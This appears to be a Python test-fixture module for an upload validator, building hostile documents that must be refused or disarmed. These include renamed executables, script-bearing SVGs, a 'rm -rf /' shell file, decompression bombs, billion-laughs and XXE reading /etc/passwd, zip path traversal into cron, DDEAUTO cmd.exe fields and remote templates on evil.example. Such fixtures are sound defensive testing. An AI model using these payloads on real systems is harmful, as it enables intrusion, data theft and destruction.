"""Documents that nobody means well with, made here in code: each under a name, with the name it is sent under.

`REFUSED` may not be taken at all. `DISARMED` may be taken, but only without the bytes that make it what it is.
"""

import io
import struct
import zlib

from tests.security.good_files import (
    DOCX_MAIN,
    RELATIONS,
    SECRET,
    document,
    docx,
    docx_parts,
    odt,
    odt_parts,
    pdf,
    picture,
    relationships,
    squeezed,
    with_parts,
    zipped,
)
from tests.security.hostile_pdfs import BAD_PDF, EXE, HTML, SCRIPT

File = tuple[str, bytes]
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


# What is no document of ours, whatever it is called

NO_DOCUMENT: dict[str, File] = {
    "nothing": ("leeg.pdf", b""),
    "one byte": ("leeg.pdf", b"%"),
    "a program called PDF": ("factuur.pdf", EXE),
    "a program called photo": ("foto.jpg", EXE),
    "a program of Linux": ("plan.odt", b"\x7fELF\x02\x01\x01" + bytes(500)),
    "a page called PDF": ("plan.pdf", HTML),
    "a page called photo": ("foto.png", HTML),
    "a drawing that acts": ("logo.svg", SVG),
    "a drawing called photo": ("logo.png", SVG),
    "a script that is a GIF too": ("foto.gif", b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)//"),
    "a GIF": ("foto.gif", picture(kind="GIF")),
    "a BMP called photo": ("foto.jpg", picture(kind="BMP")),
    "a TIFF called photo": ("foto.jpg", picture(kind="TIFF")),
    "a WebP called photo": ("foto.jpg", picture(kind="WEBP")),
    "a file of a shell": ("plan.pdf", b"#!/bin/sh\nrm -rf /\n"),
    "a PDF behind a page": ("plan.pdf", HTML + pdf()),
    "a PDF behind a program": ("plan.pdf", EXE + pdf()),
    "a document behind a photo of another kind": ("plan.docx", b"GIF89a" + docx()),
    "an old document of Word": ("plan.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000)),
    "an old document called docx": ("plan.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000)),
    "text with a macro of RTF": ("plan.docx", rb"{\rtf1{\object\objocx\objdata 0105}}"),
    "a tape": ("plan.zip", b"\x1f\x8b\x08\x00" + bytes(100)),
    "a rar": ("plan.docx", b"Rar!\x1a\x07\x00" + bytes(100)),
    "a zip of anything": ("plan.docx", zipped({"plan.exe": EXE})),
    "a java program": ("plan.docx", zipped({"META-INF/MANIFEST.MF": "Main-Class: Evil", "Evil.class": b"\xca\xfe"})),
    "a table": ("plan.docx", docx(**{"[Content_Types].xml": docx_parts()["[Content_Types].xml"].replace(
        "wordprocessingml.document.main", "spreadsheetml.sheet.main")})),
    "a book": ("plan.odt", zipped({"mimetype": "application/epub+zip", "content.xml": "<x/>"}, "mimetype")),
    "a drawing of LibreOffice": ("plan.odt", odt(mimetype="application/vnd.oasis.opendocument.graphics")),
    "the test of scanners": ("eicar.pdf", EICAR),
}  # fmt: skip


# Photos and pictures


def png_chunk(kind: bytes, data: bytes) -> bytes:
    """A piece of a PNG."""
    return struct.pack("!I", len(data)) + kind + data + struct.pack("!I", zlib.crc32(kind + data))


def png_of(width: int, height: int, dots: bytes, *more: bytes) -> bytes:
    """A PNG that says it is so wide and so high."""
    head = png_chunk(b"IHDR", struct.pack("!IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(more) + png_chunk(b"IDAT", dots) + png_chunk(b"IEND", b"")


BAD_PICTURE: dict[str, File] = {
    "a bomb of a picture": ("bom.png", png_of(30_000, 30_000, squeezed(300))),
    "a picture as large as a town": ("bom.png", png_of(2**31 - 1, 2**31 - 1, zlib.compress(bytes(100)))),
    "a picture of which words explode": ("bom.png", png_of(8, 8, zlib.compress(bytes(200)), png_chunk(
        b"zTXt", b"x\0\0" + squeezed(100)))),
    "a photo in layers that is too large": ("bom.jpg", picture((5200, 4200), progressive=True)),
    "half a photo": ("foto.jpg", picture((400, 400))[:900]),
    "half a picture": ("foto.png", picture((400, 400), "PNG")[:200]),
    "the beginning of a photo": ("foto.jpg", b"\xff\xd8\xff\xe0"),
    "a photo with a page in it": ("foto.jpg", b"\xff\xd8\xff" + HTML),
    "a picture with a program in it": ("foto.png", b"\x89PNG\r\n\x1a\n" + EXE),
}  # fmt: skip
BEHIND = SCRIPT + SECRET.encode()
DISARMED: dict[str, File] = {
    "a photo with a page behind it": ("foto.jpg", picture() + BEHIND),
    "a photo with a page in what is said of it": ("foto.jpg", picture(comment=BEHIND)),
    "a photo with a zip behind it": ("foto.jpg", picture() + zipped({"x.html": BEHIND}) + BEHIND),
    "a picture with a script in its words": ("foto.png", png_of(2, 1, zlib.compress(bytes(7)), png_chunk(
        b"tEXt", b"Comment\0" + BEHIND))),
    "a picture with a page behind it": ("foto.png", picture(kind="PNG") + BEHIND),
    "a picture with a colour profile of words": ("foto.png", png_of(2, 1, zlib.compress(bytes(7)), png_chunk(
        b"iCCP", b"x\0\0" + zlib.compress(BEHIND)))),
    "a photo called program": ("foto.exe", picture()),
    "a photo called page": ("foto.html", picture(comment=BEHIND)),
    "a PDF with a page behind it": ("plan.pdf", pdf() + BEHIND),
    "a PDF with a program behind it": ("plan.pdf", pdf() + EXE + BEHIND),
    "a PDF with a page before its end": ("plan.pdf", pdf().replace(b"startxref", b"%" + BEHIND + b"\nstartxref")),
    "a document with a page behind it": ("plan.docx", docx() + BEHIND),
    "a document with words in its zip": ("plan.docx", docx(**{"docProps/app.xml": BEHIND})),
    "a document with what a program keeps": ("plan.docx", docx(**{"customXml/item1.xml": BEHIND})),
    "a document of LibreOffice with buttons": ("plan.odt", odt(**{"Configurations2/menubar/menubar.xml": BEHIND})),
    "a document of LibreOffice with a small picture": ("plan.odt", odt(**{"Thumbnails/thumbnail.png": BEHIND})),
}  # fmt: skip


# Office documents


def _types(more: str) -> bytes | str:
    return str(docx_parts()["[Content_Types].xml"]).replace("</Types>", more + "</Types>")


def _leads(kind: str, target: str, outside: bool = True) -> bytes:
    mode = ' TargetMode="External"' if outside else ""
    line = f'Id="rId9" Type="{RELATIONS}/{kind}" Target="{target}"{mode}'
    return docx(**{"word/_rels/settings.xml.rels": relationships(line), "word/settings.xml": "<settings/>"})


def _field(*pieces: str) -> bytes:
    inside = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{what}"/></w:r>' for what in ("begin", "end"))
    return docx(**{"word/document.xml": document(begin + inside + end)})


def _laughs() -> str:
    more = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    head = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "ha">{more}]>'
    return document("<w:r><w:t>&l9;</w:t></w:r>", head)


def _claims(size: int) -> bytes:
    """A document of which a part says that it is so large."""
    data = bytearray(docx())
    at = data.index(b"PK\x01\x02")
    while data[at + 46 : at + 46 + 17] != b"word/document.xml":
        at = data.index(b"PK\x01\x02", at + 4)
    data[at + 24 : at + 28] = struct.pack("<I", size)
    return bytes(data)


def _renamed(old: bytes, new: bytes) -> bytes:
    """A document with a part whose name a zip program would not write."""
    assert len(old) == len(new)
    return docx(**{old.decode(): "x"}).replace(old, new)


def _locked_zip() -> bytes:
    data = bytearray(docx())
    for mark, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.index(mark)
        data[at + flags] |= 1
    return bytes(data)


def _nested(deep: int) -> bytes:
    """A zip in a zip in a zip, and nothing in the last but nothing."""
    inside = zipped({"0.txt": bytes(5_000_000)})
    for _ in range(deep):
        inside = zipped({f"{number}.zip": inside for number in range(8)})
    return inside


def _twice() -> bytes:
    import zipfile

    out = io.BytesIO(docx())
    with zipfile.ZipFile(out, "a") as archive:
        import warnings

        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            archive.writestr("word/document.xml", document("twice"))
    return out.getvalue()


BAD_OFFICE: dict[str, File] = {
    "a macro": ("plan.docx", docx(**{"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"})),
    "a macro that is listed": ("plan.docx", docx(**{"[Content_Types].xml": _types(
        '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>')})),
    "a docm called docx": ("plan.docx", docx(**{"[Content_Types].xml": str(docx_parts()["[Content_Types].xml"]).replace(
        DOCX_MAIN, "application/vnd.ms-word.document.macroEnabled.main+xml")})),
    "a docm": ("plan.docm", docx(**{"word/vbaProject.bin": b"x", "word/vbaData.xml": "<x/>"})),
    "a template from elsewhere": ("plan.docx", _leads("attachedTemplate", "https://evil.example/x.dotm")),
    "a template on another machine": ("plan.docx", _leads("attachedTemplate", "file://///evil/x.dotm")),
    "a template that hides that it is elsewhere": ("plan.docx", _leads("attachedTemplate", "//evil/x.dotm", False)),
    "a picture from elsewhere": ("plan.docx", _leads("image", "https://evil.example/pixel.png")),
    "an object from elsewhere": ("plan.docx", _leads("oleObject", "mhtml:https://evil.example/x.html!x")),
    "a link to a script in Word": ("plan.docx", _leads("hyperlink", "javascript:alert(1)")),
    "a link to a protocol": ("plan.docx", _leads("hyperlink", "ms-msdt:/id PCWDiagnostic")),
    "an object": ("plan.docx", docx(**{"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"})),
    "a document in a document": ("plan.docx", docx(**{"word/embeddings/inside.docx": docx()})),
    "a control": ("plan.docx", docx(**{"word/activeX/activeX1.xml": "<x/>"})),
    "a page in a document": ("plan.docx", docx(**{"word/afchunk.htm": HTML})),
    "a drawing for Windows": ("plan.docx", docx(**{"word/media/image2.wmf": b"\xd7\xcd\xc6\x9a" + bytes(50)})),
    "a program called picture": ("plan.docx", docx(**{"word/media/image2.png": EXE})),
    "a zip called picture": ("plan.docx", docx(**{"word/media/image2.png": zipped({"a": b"b"})})),
    "a bomb of a picture in it": ("plan.docx", docx(**{"word/media/image2.png": png_of(30_000, 30_000, squeezed(10))})),
    "a field that runs": ("plan.docx", _field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"')),
    "a field in pieces": ("plan.docx", _field(" D", "DE", "AUTO cmd.exe")),
    "a field that fetches": ("plan.docx", _field('INCLUDEPICTURE "https://evil.example/x" \\d')),
    "a simple field": ("plan.docx", docx(**{"word/document.xml": document('<w:fldSimple w:instr="DDE cmd a"/>')})),
    "laughs": ("plan.docx", docx(**{"word/document.xml": _laughs()})),
    "a file of ours in its text": ("plan.docx", docx(**{"word/document.xml": document(
        "<w:t>&x;</w:t>", '<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>')})),
    "text in another writing": ("plan.docx", docx(**{"word/document.xml": document("x").encode("utf-16")})),
    "text in a writing of seven bits": ("plan.docx", docx(**{"word/document.xml": document(
        "x", '<?xml version="1.0" encoding="UTF-7"?>')})),
    "a bomb": ("plan.docx", docx(**{"word/document.xml": document(" " * 19_000_000)})),
    "many bombs": ("plan.docx", docx(**{f"word/header{n}.xml": bytes(9_000_000) for n in range(9)})),
    "ten thousand parts": ("plan.docx", docx(**{f"word/header{n}.xml": "<x/>" for n in range(10_000)})),
    "42": ("42.docx", _nested(2)),
    "42 in a document": ("plan.docx", docx(**{"word/media/image2.zip": _nested(1)})),
    "a part that says ten gigabytes": ("plan.docx", _claims(0xFFFFFFF0)),
    "a part that says little": ("plan.docx", _claims(3)),
    "a part that climbs": ("plan.docx", docx(**{"../../etc/cron.d/x": "* * * * * root x"})),
    "a part that climbs in its middle": ("plan.docx", docx(**{"word/../../x.xml": "<x/>"})),
    "a part from the root": ("plan.docx", docx(**{"/etc/passwd": "x"})),
    "a part of Windows": ("plan.docx", _renamed(b"word.media.evil", b"word\\media\\evil")),
    "a part on a disk": ("plan.docx", docx(**{"C:evil.xml": "x"})),
    "a part with a zero": ("plan.docx", _renamed(b"word/evil.xmlA", b"word/evil.xml\0")),
    "a part that is there twice": ("plan.docx", _twice()),
    "a zip with a password": ("plan.docx", _locked_zip()),
    "half a zip": ("plan.docx", docx()[:-60]),
    "no text at all": ("plan.docx", docx(**{"word/document.xml": None})),
    "a macro of LibreOffice": ("plan.odt", odt(**{"Basic/Standard/Module1.xml": "<x/>"})),
    "a script of LibreOffice": ("plan.odt", odt(**{"Scripts/python/x.py": "import os"})),
    "a listener": ("plan.odt", odt('<script:event-listener xlink:href="vnd.sun.star.script:x"/>')),
    "a link to a macro": ("plan.odt", odt('<text:a xlink:href="macro:///Standard.Module1.Main">x</text:a>')),
    "a picture from elsewhere, LibreOffice": ("plan.odt", odt('<draw:image xlink:href="https://evil.example/p.png"/>')),
    "a part from elsewhere": ("plan.odt", odt('<text:section-source xlink:href="//evil/x"/>')),
    "an object of LibreOffice": ("plan.odt", odt(
        '<draw:object xlink:href="./Object 1"/>', **{"Object 1/content.xml": "<x/>"})),
    "a frame": ("plan.odt", odt('<draw:floating-frame xlink:href="https://evil.example"/>')),
    "an odt with a password": ("plan.odt", odt(**{"META-INF/manifest.xml": "<m><encryption-data/></m>"})),
    "an odt with a way up": ("plan.odt", odt('<draw:image xlink:href="Pictures/../../x.png"/>')),
    "laughs in LibreOffice": ("plan.odt", odt(**{"content.xml": '<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'})),
    "a docx that says it is an odt": ("plan.odt", with_parts(docx_parts(), {"mimetype": odt_parts()["mimetype"]})),
}  # fmt: skip
REFUSED: dict[str, File] = {
    **NO_DOCUMENT,
    **{f"a PDF with {what}": ("plan.pdf", data) for what, data in BAD_PDF.items()},
    **BAD_PICTURE,
    **{f"a document with {what}": file for what, file in BAD_OFFICE.items()},
}
